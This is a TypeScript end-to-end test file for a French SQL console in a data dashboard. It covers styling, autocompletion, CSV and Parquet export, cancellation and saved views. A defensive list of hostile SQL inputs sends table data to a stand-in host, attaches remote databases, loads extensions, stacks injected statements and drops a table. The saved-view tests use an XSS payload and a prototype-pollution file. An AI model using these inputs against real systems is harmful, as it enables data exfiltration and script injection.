import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { findFaults } from './axe.ts';
import { toUpload, visit, waitForScripts, type Visit } from './browser.ts';

const HOSTILE: readonly string[] = [
	"SELECT * FROM 'http://sonde.example/x.parquet'",
	"SELECT * FROM 'https://sonde.example/x.csv'",
	"SELECT * FROM 's3://sonde/x.parquet'",
	"SELECT * FROM read_csv('http://sonde.example/x.csv')",
	"SELECT * FROM read_parquet(['http://sonde.example/x.parquet'])",
	"ATTACH 'http://sonde.example/x.db' AS x (READ_ONLY)",
	"COPY poles TO 'http://sonde.example/x.csv'",
	"INSTALL httpfs FROM 'http://sonde.example'",
	'LOAD httpfs',
	"SET custom_extension_repository = 'http://sonde.example'",
	"SELECT json('{}')",
	"SELECT CAST('{}' AS JSON)",
	"SELECT 1; COPY poles TO 'http://sonde.example/x.csv'",
	"SELECT 1) AS a; ATTACH 'http://sonde.example/x.db'; SELECT * FROM (SELECT 1",
	'DROP TABLE poles',
];

let opened: Visit;

/** Puts a statement in the place of the former one, as a person who pastes it, and runs it with the keyboard. */
async function run(page: Page, sql: string): Promise<string> {
	await write(page, sql);
	await page.keyboard.press('Control+Enter');
	return waitForEnd(page);
}

async function write(page: Page, sql: string): Promise<void> {
	await page.getByRole('textbox', { name: 'Requête SQL' }).click();
	await page.keyboard.press('Control+a');
	await page.keyboard.insertText(sql);
	await page.keyboard.press('Escape');
}

async function waitForEnd(page: Page): Promise<string> {
	const state = page.locator('[data-etat]');
	await expect
		.poll(() => state.getAttribute('data-etat'), { timeout: 40_000 })
		.toMatch(/^(?:resultat|faute|arret)$/);
	return page.locator('.answer').innerText();
}

async function openConsole(page: Page): Promise<void> {
	await page.locator('[data-editeur="pret"]').waitFor();
}

beforeAll(async () => {
	opened = await visit(inject('address'), 'exploration?volet=sql');
	await openConsole(opened.page);
});

afterAll(() => opened.close());

describe('the console of SQL', () => {
	it('is styled in its shadow tree without a word of the policy', async () => {
		const { page, errors } = opened;
		await page.evaluate(() => {
			document.addEventListener('securitypolicyviolation', (event) => {
				document.documentElement.dataset.refus = event.violatedDirective;
			});
		});
		await write(page, 'SELECT code_pole, libelle FROM pol');
		const style = await page.locator('.cm-scroller').evaluate((element) => {
			const { display, fontFamily } = getComputedStyle(element);
			return { display, isMono: /mono/i.test(fontFamily) };
		});
		expect(style).toEqual({ display: 'flex', isMono: true });
		expect(await page.locator('html').getAttribute('data-refus')).toBeNull();
		expect(errors).toEqual([]);
	});

	it('proposes the columns of a table with their words', async () => {
		const { page } = opened;
		await write(page, 'SELECT o. FROM orientations o');
		for (let step = 0; step < ' FROM orientations o'.length; step += 1) {
			await page.keyboard.press('ArrowLeft');
		}
		await page.keyboard.type('nouv');
		const option = page.getByRole('option', { name: 'nouvel_entrant' });
		await option.waitFor();
		await page.locator('.cm-completionInfo').waitFor();
		const isSeen = await page.locator('.cm-completionInfo').evaluate((element) => {
			const { x, y, width, height } = element.getBoundingClientRect();
			const root = element.getRootNode() as ShadowRoot;
			return element.contains(root.elementFromPoint(x + width / 2, y + height / 2));
		});
		expect(isSeen).toBe(true);
		expect(await page.locator('.cm-completionInfo').innerText()).not.toBe('');
		await page.keyboard.press('Escape');
	});

	it('is left by the keyboard', async () => {
		const { page } = opened;
		await write(page, 'FROM poles');
		await page.keyboard.press('Tab');
		const label = await page.evaluate(() => document.activeElement?.textContent.trim());
		expect(label).toBe('Exécuter');
	});

	it('shows the rows, sorts them, draws them and writes them down', async () => {
		const { page } = opened;
		const words = await run(
			page,
			'SELECT p.libelle AS pole, count(*) AS n, NULL AS rien FROM orientations o JOIN poles p ON p.code_pole = o.code_pole GROUP BY p.libelle',
		);
		expect(words).toMatch(/^\d+\slignes, 3\scolonnes, /);
		expect(words).toContain('nul');
		const cells = page.locator('.answer tbody td:nth-child(2)');
		await page.getByRole('columnheader', { name: 'n', exact: true }).getByRole('button').click();
		const sorted = (await cells.allInnerTexts()).map(Number);
		expect(sorted).toEqual([...sorted].sort((a, b) => a - b));
		await page.getByLabel('Graphique').check();
		await page.locator('.answer figure svg').first().waitFor();
		const downloading = page.waitForEvent('download');
		await page.locator('.tools').getByRole('button', { name: 'CSV' }).click();
		const download = await downloading;
		expect(download.suggestedFilename()).toMatch(/^PILOTAGE_NE-PAS-DIFFUSER_requete.*\.csv$/);
		const text = readFileSync(await download.path(), 'utf8');
		expect(text.split('\r\n')[0]).toBe('\uFEFFpole;n;rien');
	});

	it.each([
		[1440, 'light'],
		[1440, 'dark'],
		[390, 'light'],
	] as const)(
		'has no fault that axe can see and no width of its own at %d px, %s',
		async (width, colorScheme) => {
			const { page } = opened;
			await page.setViewportSize({ width, height: 900 });
			expect(await findFaults(page, colorScheme)).toEqual([]);
			const excess = await page.evaluate(
				() => document.documentElement.scrollWidth - document.documentElement.clientWidth,
			);
			expect(excess).toBeLessThanOrEqual(0);
			await page.setViewportSize({ width: 1440, height: 900 });
			await page.emulateMedia({ colorScheme: 'light' });
		},
	);

	it('exports every row that the page leaves out', async () => {
		const { page } = opened;
		expect(await run(page, 'FROM range(2500)')).toMatch(/^1\s000\spremières lignes/);
		const downloading = page.waitForEvent('download');
		await page.locator('.tools').getByRole('button', { name: 'Parquet' }).click();
		const download = await downloading;
		const bytes = readFileSync(await download.path());
		expect(bytes.subarray(0, 4).toString('latin1')).toBe('PAR1');
		expect(await page.locator('.tools').innerText()).toMatch(/2\s500\slignes/);
	});

	it('says a fault in French, with its place', async () => {
		const { page } = opened;
		const words = await run(page, 'SELECT libelle\nFROM pole');
		expect(words).toContain('La table «\u00A0pole\u00A0» n’existe pas.');
		expect(words).toContain('Ligne 2, colonne 6.');
		await page.locator('.cm-fault').waitFor();
		expect(await page.locator('.cm-fault').innerText()).toBe('pole');
	});

	it('lets no hostile statement leave, nor change the tables', async () => {
		const { page, hosts, listReached } = opened;
		const before = await run(page, 'SELECT count(*) AS n FROM poles');
		for (const sql of HOSTILE) {
			await run(page, sql);
			expect(await page.locator('[data-etat]').getAttribute('data-etat'), sql).toBe('faute');
		}
		const after = await run(page, 'SELECT count(*) AS n FROM poles');
		const count = (words: string): string | undefined => words.split('\n').at(-1);
		expect(count(after)).toBe(count(before));
		expect([...hosts]).toEqual(['127.0.0.1']);
		expect(listReached()).toEqual([]);
	});

	it.each([
		'SELECT count(*) FROM range(100000000) a, range(100000) b',
		'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t',
		"SELECT length(repeat('x', 1000000000)) AS n FROM range(100)",
	])('stops « %s » when told to, and goes on', async (sql) => {
		const { page } = opened;
		await write(page, sql);
		await page.keyboard.press('Control+Enter');
		await page.locator('[data-etat="calcul"]').waitFor();
		await page.getByRole('button', { name: 'Annuler', exact: true }).click();
		expect(await waitForEnd(page)).toContain('Requête annulée.');
		expect(await run(page, 'SELECT 41 + 1 AS n')).toContain('42');
	});

	it('stops at the limit of time, or of memory, and goes on', async () => {
		const { page } = opened;
		expect(await run(page, 'SELECT count(*) FROM range(100000000) a, range(100000) b')).toContain(
			'La requête a dépassé 10\u00A0secondes.',
		);
		const heavy = await run(
			page,
			"SELECT string_agg(repeat('x', 1000000), '') AS n FROM range(100000)",
		);
		expect(heavy).toMatch(/plus de mémoire que le moteur|a dépassé/);
		expect(await run(page, 'SELECT 41 + 1 AS n')).toContain('42');
		expect(opened.errors).toEqual([]);
	});

	it('opens the SQL of an indicator from its definition', async () => {
		const { page } = opened;
		await page.goto(new URL('methode#taux_contractualisation', inject('address')).href);
		const block = page.locator('#taux_contractualisation');
		await block.getByText('Requête SQL').click();
		await block.getByRole('link', { name: 'Ouvrir dans la console' }).click();
		await openConsole(page);
		await page.getByRole('textbox', { name: 'Requête SQL' }).click();
		await page.keyboard.press('Control+Enter');
		expect(await waitForEnd(page)).toContain('ENSEMBLE');
	});
});

describe('saved views', () => {
	it('are kept on the device, found again, removed and put back', async () => {
		const { page } = opened;
		await page.goto(new URL('exploration?volet=sql', inject('address')).href);
		await openConsole(page);
		await write(
			page,
			'SELECT p.libelle AS pole, count(*) AS n FROM orientations o JOIN poles p ON p.code_pole = o.code_pole GROUP BY p.libelle',
		);
		await page.getByText('Vues gardées (0)').click();
		const name = '<img src=x onerror=alert(1)> Orientations';
		await page.getByLabel('Nom de la vue').fill(name);
		await page.getByRole('button', { name: 'Garder cette vue' }).click();
		await page.getByRole('link', { name }).waitFor();
		await page.goto(new URL('exploration', inject('address')).href);
		await page.getByText('Vues gardées (1)').click();
		await page.getByRole('link', { name }).click();
		await openConsole(page);
		await expect
			.poll(() => page.getByRole('textbox', { name: 'Requête SQL' }).innerText())
			.toContain('count(*)');
		await page.getByRole('button', { name: `Supprimer la vue ${name}` }).click();
		expect(await page.getByRole('link', { name }).count()).toBe(0);
		await page.getByRole('button', { name: 'Annuler la suppression' }).click();
		await page.getByRole('link', { name }).waitFor();
	});

	it('refuse a hostile file with a sentence, and take back their own', async () => {
		const { page } = opened;
		const downloading = page.waitForEvent('download');
		await page.getByRole('button', { name: 'Exporter les vues' }).click();
		const own = readFileSync(await (await downloading).path());
		const choose = page.locator('input[data-choose="vues"]');
		await choose.setInputFiles(toUpload('vues.json', '{"__proto__": {"vues": []}}'));
		await page.getByText('ne contient pas de vues de Jalons').waitFor();
		await choose.setInputFiles(toUpload('vues.json', own));
		await page.getByText('0\u00A0vue ajoutée, 1 laissée').waitFor();
	});

	it('are drawn in a report that names them, but not where it is published', async () => {
		const { page } = opened;
		const [id = ''] = await page.locator('.views .when code').allInnerTexts();
		await page.goto(new URL('presentation', inject('address')).href);
		await waitForScripts(page);
		const text = `---\ntitre: Essai\nforme: diapositives\n---\n\n## Une vue\n\n::vue{id=${id}}\n`;
		await page.locator('input[type="file"]').first().setInputFiles(toUpload('essai.md', text));
		const slide = page.locator('main figure, main svg', { hasText: 'Grand Valentinois' });
		await slide.first().waitFor({ timeout: 60_000 });
		await page.goto(new URL('presentation?edition=diffusion', inject('address')).href);
		// The slides of the edition take the place of those that the page was built with.
		await page.locator('.slide .banner.diffusion').first().waitFor({ timeout: 60_000 });
		await page.locator('input[type="file"]').first().setInputFiles(toUpload('essai.md', text));
		await page.getByText('l’édition de diffusion ne la montre pas').waitFor({ timeout: 60_000 });
	});

	it('have no place in the edition of diffusion, which says why', async () => {
		const { page } = opened;
		await page.goto(new URL('exploration?edition=diffusion', inject('address')).href);
		await page.getByText('ne lit que la table publiée').waitFor({ timeout: 60_000 });
		expect(await page.locator('[data-editeur]').count()).toBe(0);
	});
});
